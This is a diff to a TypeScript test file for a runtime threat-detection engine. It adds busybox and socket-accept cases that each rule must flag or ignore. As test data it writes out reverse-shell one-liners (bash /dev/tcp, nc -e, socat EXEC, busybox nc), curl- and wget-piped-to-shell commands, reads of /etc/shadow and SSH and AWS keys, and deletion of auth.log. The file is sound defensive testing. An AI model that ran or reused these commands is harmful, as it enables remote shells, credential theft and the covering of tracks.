@@ -17,6 +17,15 @@ const served =
 const connection = { kind: 'socket', protocol: 'tcp', remote: internet('203.0.113.7', 4444) } as const;
 const pipe = { kind: 'other', text: 'pipe:[1]' } as const;
 
+/** The service scan's connection, or one of the image to itself, as the server that accepts it has it. */
+const scanned = { kind: 'socket', protocol: 'tcp', remote: internet('127.0.0.1', 45_454) } as const;
+const accepted =
+  (pid: number, write: Write): Write =>
+  (trace) =>
+    write(
+      trace.call(pid, 'accept4', { kind: 'accept', address: internet('::ffff:127.0.0.1', 45_454), protocol: 'tcp' }),
+    );
+
 /** For each rule: traces that it must tell, and others like them that it must not. */
 const cases: Readonly<Record<string, { readonly fires: readonly Write[]; readonly silent: readonly Write[] }>> = {
   'call-shell-at-connection': {
@@ -25,6 +34,16 @@ const cases: Readonly<Record<string, { readonly fires: readonly Write[]; readonl
       // A program redirects, and then becomes a shell.
       (t) => t.run(1, 2, '/opt/agent').duplicate(2, connection, 0).duplicate(2, connection, 1).exec(2, '/bin/sh'),
       (t) => t.run(1, 2, '/usr/bin/python3').duplicate(2, connection, 0).run(2, 3, '/bin/sh'),
+      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'sh', '-i']).duplicate(2, connection, 0),
+      // A shell behind a port: whoever asks it, be it the service scan, is the first to find it.
+      accepted(1, (t) => t.fork(1, 2).duplicate(2, scanned, 0).duplicate(2, scanned, 1).exec(2, '/bin/sh')),
+      accepted(1, (t) => t.fork(1, 2).duplicate(2, scanned, 0).exec(2, '/bin/busybox', ['busybox', 'sh', '-i'])),
+      accepted(1, (t) => t.fork(1, 2).duplicate(2, scanned, 0).exec(2, '/proc/self/exe', ['sh'])),
+      accepted(2, (t) =>
+        t.run(1, 2, '/usr/bin/perl', ['perl', '/x.pl']).duplicate(2, scanned, 0).duplicate(2, scanned, 2),
+      ),
+      // A client of a shell of the image's own.
+      (t) => t.fork(1, 2).connect(2, '127.0.0.1', 45_454).duplicate(2, scanned, 0).exec(2, '/bin/sh', ['sh', '/x.sh']),
     ],
     silent: [
       // Servers that are started for each connection have it as their input.
@@ -37,18 +56,32 @@ const cases: Readonly<Record<string, { readonly fires: readonly Write[]; readonl
           .run(2, 3, '/bin/bash'),
       (t) => t.run(1, 2, '/bin/sh').duplicate(2, pipe, 0).duplicate(2, { kind: 'file', path: '/dev/null' }, 1),
       (t) => t.run(1, 2, '/bin/bash').duplicate(2, connection, 9),
+      // busybox(1): one program is many. This one serves each connection as its input and output.
+      accepted(2, (t) =>
+        t.run(1, 2, '/bin/busybox', ['busybox', 'httpd', '-f']).duplicate(2, scanned, 0).duplicate(2, scanned, 1),
+      ),
+      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'httpd', '-f']).duplicate(2, connection, 0),
+      (t) => t.fork(1, 2).duplicate(2, connection, 0).exec(2, '/bin/busybox', ['ftpd', '/srv']),
+      // Net::Server of Perl, and a script that a super-server starts.
+      accepted(2, (t) =>
+        t.run(1, 2, '/usr/bin/perl', ['perl', '/x.pl']).duplicate(2, scanned, 0).duplicate(2, scanned, 1),
+      ),
+      accepted(1, (t) => t.fork(1, 2).duplicate(2, scanned, 0).exec(2, '/bin/sh', ['sh', '/srv/answer.sh'])),
+      accepted(1, (t) => t.fork(1, 2).duplicate(2, scanned, 0).exec(2, '/bin/sh', ['sh', '-c', 'uptime'])),
     ],
   },
   'call-shell-command': {
     fires: [
       (t) => t.run(1, 2, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']),
       (t) => t.run(1, 2, '/bin/nc', ['nc', '-e', '/bin/sh', '203.0.113.7', '4444']),
+      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'nc', '-l', '-p', '4444', '-e', '/bin/sh']),
       (t) => t.run(1, 2, '/usr/bin/socat', ['socat', 'TCP:203.0.113.7:4444', 'EXEC:/bin/sh']),
       (t) =>
         t.run(1, 2, '/usr/bin/python3', ['python3', '-c', 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)']),
     ],
     silent: [
       (t) => t.run(1, 2, '/bin/nc', ['nc', '-z', 'db', '5432']),
+      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'httpd', '-f', '-c', '/etc/httpd.conf', '-h', '/usr/share/www']),
       (t) => t.run(1, 2, '/usr/bin/python3', ['python3', '-c', 'import socket; print(socket.gethostname())']),
       (t) => t.run(1, 2, '/bin/sh', ['sh', '-c', 'echo /dev/null']),
     ],
@@ -57,8 +90,10 @@ const cases: Readonly<Record<string, { readonly fires: readonly Write[]; readonl
     fires: [
       served((t) => t.run(1, 2, '/bin/sh', ['sh', '-c', 'id'])),
       (t) => t.run(1, 2, '/usr/sbin/php-fpm8.4').run(2, 3, '/bin/sh', ['sh', '-c', 'id']),
+      served((t) => t.run(1, 2, '/bin/busybox', ['busybox', 'sh', '-c', 'id'])),
     ],
     silent: [
+      served((t) => t.run(1, 2, '/bin/busybox', ['busybox', 'date'])),
       (t) => t.run(1, 2, '/bin/sh', ['sh', '-c', 'id']),
       (t) => t.run(1, 2, '/usr/sbin/apache2').run(2, 3, '/bin/sh', ['sh', '-c', '/usr/bin/rotatelogs x']),
       served((t) => t.run(1, 2, '/usr/sbin/nginx')),
@@ -100,10 +135,12 @@ const cases: Readonly<Record<string, { readonly fires: readonly Write[]; readonl
       (t) => t.write(1, '/tmp/dropped').chmod(1, '/tmp/dropped', 0o755).run(1, 2, '/tmp/dropped'),
       (t) => t.write(1, '/tmp/a').rename(1, '/tmp/a', '/opt/b').run(1, 2, '/opt/b'),
       (t) => t.write(1, '/tmp/x.sh').run(1, 2, '/bin/sh', ['sh', '/tmp/x.sh']),
+      (t) => t.write(1, '/tmp/x.sh').run(1, 2, '/bin/busybox', ['busybox', 'sh', '/tmp/x.sh']),
     ],
     silent: [
       (t) => t.write(1, '/tmp/redis.conf').run(1, 2, '/usr/bin/redis-server', ['redis-server', '/tmp/redis.conf']),
       (t) => t.run(1, 2, '/usr/bin/tool'),
+      (t) => t.write(1, '/tmp/x.html').run(1, 2, '/bin/busybox', ['busybox', 'cat', '/tmp/x.html']),
       (t) => t.write(1, '/tmp/a').remove(1, '/tmp/a').run(1, 2, '/tmp/b'),
       (t) => t.run(1, 2, '/usr/bin/dpkg').write(2, '/tmp/postinst').run(2, 3, '/tmp/postinst'),
     ],
@@ -112,6 +149,7 @@ const cases: Readonly<Record<string, { readonly fires: readonly Write[]; readonl
     fires: [
       (t) => t.run(1, 2, '/bin/sh', ['sh', '-c', 'curl -fsSL https://a.example/x | sh']),
       (t) => t.run(1, 2, '/bin/bash', ['bash', '-c', 'wget -qO- http://a.example | sudo /bin/bash -s x']),
+      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'sh', '-c', 'wget -qO- http://a.example | sh']),
     ],
     silent: [
       (t) => t.run(1, 2, '/bin/sh', ['sh', '-c', 'curl -f http://localhost/health || exit 1']),
@@ -261,6 +299,7 @@ const cases: Readonly<Record<string, { readonly fires: readonly Write[]; readonl
     fires: [
       (t) => t.call(1, 'finit_module', { kind: 'module' }, { error: 'EPERM' }),
       (t) => t.run(1, 2, '/sbin/insmod', ['insmod', 'x.ko']),
+      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'insmod', 'x.ko']),
     ],
     silent: [(t) => t.run(1, 2, '/sbin/lsmod'), (t) => t.open(1, '/proc/modules')],
   },
@@ -401,8 +440,13 @@ const cases: Readonly<Record<string, { readonly fires: readonly Write[]; readonl
     ],
   },
   'call-logs-cleared': {
-    fires: [(t) => t.write(1, '/var/log/wtmp'), (t) => t.remove(1, '/var/log/auth.log')],
+    fires: [
+      (t) => t.write(1, '/var/log/wtmp'),
+      (t) => t.remove(1, '/var/log/auth.log'),
+      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'rm', 'x']).remove(2, '/var/log/auth.log'),
+    ],
     silent: [
+      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'syslogd']).write(2, '/var/log/syslog'),
       (t) => t.open(1, '/var/log/wtmp', 'write'),
       (t) => t.write(1, '/var/log/nginx/access.log'),
       (t) => t.run(1, 2, '/usr/sbin/logrotate').write(2, '/var/log/syslog'),
@@ -411,6 +455,7 @@ const cases: Readonly<Record<string, { readonly fires: readonly Write[]; readonl
   'call-shadow-read': {
     fires: [(t) => t.run(1, 2, '/bin/cat').open(2, '/etc/shadow')],
     silent: [
+      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'login']).open(2, '/etc/shadow'),
       (t) => t.run(1, 2, '/usr/sbin/sshd').open(2, '/etc/shadow'),
       (t) => t.run(1, 2, '/bin/cat').open(2, '/etc/passwd'),
       (t) => t.run(1, 2, '/bin/cat').open(2, '/etc/shadow', 'read', {}, 'EACCES'),
@@ -420,6 +465,7 @@ const cases: Readonly<Record<string, { readonly fires: readonly Write[]; readonl
     fires: [
       (t) => t.run(1, 2, '/bin/cat').open(2, '/root/.ssh/id_rsa'),
       (t) => t.run(1, 2, '/bin/tar').open(2, '/home/a/.aws/credentials'),
+      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'cat', 'x']).open(2, '/root/.ssh/id_rsa'),
     ],
     silent: [
       (t) => t.run(1, 2, '/usr/bin/ssh').open(2, '/root/.ssh/id_rsa'),
